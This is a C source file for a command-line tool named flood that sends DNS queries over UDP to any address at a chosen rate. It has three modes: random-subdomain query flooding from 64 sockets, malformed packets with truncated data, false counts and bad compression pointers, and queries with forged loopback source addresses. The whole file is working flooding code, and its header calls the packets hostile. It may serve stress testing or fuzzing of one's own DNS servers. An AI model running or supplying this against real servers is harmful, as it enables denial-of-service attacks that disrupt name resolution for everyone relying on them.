/* flood.c - hostile packets over UDP, as fast as is asked for; answers are not read.
 * SPDX-License-Identifier: Apache-2.0
 *
 *   flood KIND ADDRESS PORT ZONE SECONDS RATE
 *
 * names      well-formed questions for random names below ZONE, from 64 sockets
 * malformed  questions with bytes turned, cut off or behind; counts and pointers that lie; noise
 * spoofed    questions for ZONE itself whose sources are addresses of 127.0.0.0/8, another with each packet
 *
 * Prints how many packets the kernel took. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define RUN 32 /* packets of one call */
#define SOCKETS 64
#define PACKET_MAX 512
#define LABEL 16
#define HEADER 12

enum kind { NAMES, MALFORMED, SPOOFED };

static uint64_t state = 0x9e3779b97f4a7c15;

static uint32_t chance(uint32_t below)
{
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return (uint32_t)(state >> 32) % below;
}

static double now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static size_t put_name(uint8_t *out, const char *name)
{
    size_t size = 0;
    while (*name != '\0') {
        size_t length = strcspn(name, ".");
        if (length == 0 || length > 63 || size + length > 200) return 0;
        out[size++] = (uint8_t)length;
        memcpy(out + size, name, length);
        size += length;
        name += length + (name[length] == '.');
    }
    out[size++] = 0;
    return size;
}

/* ID, RD, one question of type A. */
static size_t put_question(uint8_t *out, const char *zone, bool random_label)
{
    static const uint8_t rest[] = {0, 1, 0, 1};
    size_t size = HEADER;
    memset(out, 0, HEADER);
    out[0] = (uint8_t)chance(256);
    out[1] = (uint8_t)chance(256);
    out[2] = 1;
    out[5] = 1;
    if (random_label) {
        out[size++] = LABEL;
        for (int i = 0; i < LABEL; i++) out[size++] = (uint8_t)('a' + chance(26));
    }
    size += put_name(out + size, zone);
    memcpy(out + size, rest, sizeof rest);
    return size + sizeof rest;
}

static size_t spoil(uint8_t *packet, size_t size)
{
    switch (chance(6)) {
    case 0: /* cut off */ return chance((uint32_t)size);
    case 1: /* counts that lie */
        for (int i = 4; i < HEADER; i++) packet[i] = (uint8_t)chance(256);
        return size;
    case 2: /* a pointer: to itself, forward, into the header */
        packet[HEADER] = 0xc0;
        packet[HEADER + 1] = (uint8_t)chance(64);
        return size;
    case 3: /* noise */
        size = chance(PACKET_MAX);
        for (size_t i = 0; i < size; i++) packet[i] = (uint8_t)chance(256);
        return size;
    case 4: /* an answer, or another opcode; records behind */
        packet[2] |= (uint8_t)(0x80 | chance(16) << 3);
        packet[11] = 1;
        for (int i = 0; i < 40; i++) packet[size++] = (uint8_t)chance(256);
        return size;
    default:
        for (uint32_t i = 0, count = 1 + chance(8); i < count; i++) packet[chance((uint32_t)size)] = (uint8_t)chance(256);
        return size;
    }
}

struct run {
    struct mmsghdr messages[RUN];
    struct iovec parts[RUN];
    uint8_t packets[RUN][PACKET_MAX + 64];
    _Alignas(struct cmsghdr) char controls[RUN][CMSG_SPACE(sizeof(struct in_pktinfo))];
};

static void forge_source(struct run *run, int i)
{
    struct msghdr *header = &run->messages[i].msg_hdr;
    header->msg_control = run->controls[i];
    header->msg_controllen = sizeof run->controls[i];
    struct cmsghdr *head = CMSG_FIRSTHDR(header);
    struct in_pktinfo info = {.ipi_spec_dst.s_addr = htonl(0x7f000000u | (1 + chance(0xfffffe)))};
    *head = (struct cmsghdr){.cmsg_level = IPPROTO_IP, .cmsg_type = IP_PKTINFO, .cmsg_len = CMSG_LEN(sizeof info)};
    memcpy(CMSG_DATA(head), &info, sizeof info);
}

static int usage(void)
{
    fputs("usage: flood names|malformed|spoofed ADDRESS PORT ZONE SECONDS RATE\n", stderr);
    return 2;
}

int main(int argc, char **argv)
{
    static const char *const kinds[] = {[NAMES] = "names", [MALFORMED] = "malformed", [SPOOFED] = "spoofed"};
    static struct run run;
    struct sockaddr_in target = {.sin_family = AF_INET};
    int sockets[SOCKETS], small = 4096;
    unsigned kind = 0;
    if (argc != 7) return usage();
    while (kind < 3 && strcmp(argv[1], kinds[kind]) != 0) kind++;
    double seconds = strtod(argv[5], NULL), rate = strtod(argv[6], NULL);
    target.sin_port = htons((uint16_t)strtoul(argv[3], NULL, 10));
    if (kind == 3 || inet_pton(AF_INET, argv[2], &target.sin_addr) != 1 || !(seconds > 0) || !(rate > 0)) return usage();
    for (int i = 0; i < SOCKETS; i++) {
        sockets[i] = socket(AF_INET, SOCK_DGRAM, 0);
        if (sockets[i] < 0) return perror("flood: socket"), 1;
        (void)setsockopt(sockets[i], SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
    }
    for (int i = 0; i < RUN; i++) {
        run.parts[i].iov_base = run.packets[i];
        run.messages[i].msg_hdr = (struct msghdr){
            .msg_name = &target, .msg_namelen = sizeof target, .msg_iov = &run.parts[i], .msg_iovlen = 1};
    }
    uint64_t sent = 0;
    const double began = now();
    for (double at = began; at < began + seconds; at = now()) {
        if ((double)sent > (at - began) * rate) {
            nanosleep(&(struct timespec){.tv_nsec = 200000}, NULL);
            continue;
        }
        for (int i = 0; i < RUN; i++) {
            size_t size = put_question(run.packets[i], argv[4], kind != SPOOFED);
            if (kind == MALFORMED) size = spoil(run.packets[i], size);
            if (kind == SPOOFED) forge_source(&run, i);
            run.parts[i].iov_len = size;
        }
        int took = sendmmsg(sockets[chance(SOCKETS)], run.messages, RUN, 0);
        if (took > 0) sent += (uint64_t)took;
        else if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR && errno != EPERM && errno != ECONNREFUSED) return perror("flood: send"), 1;
    }
    printf("%llu\n", (unsigned long long)sent);
    return 0;
}
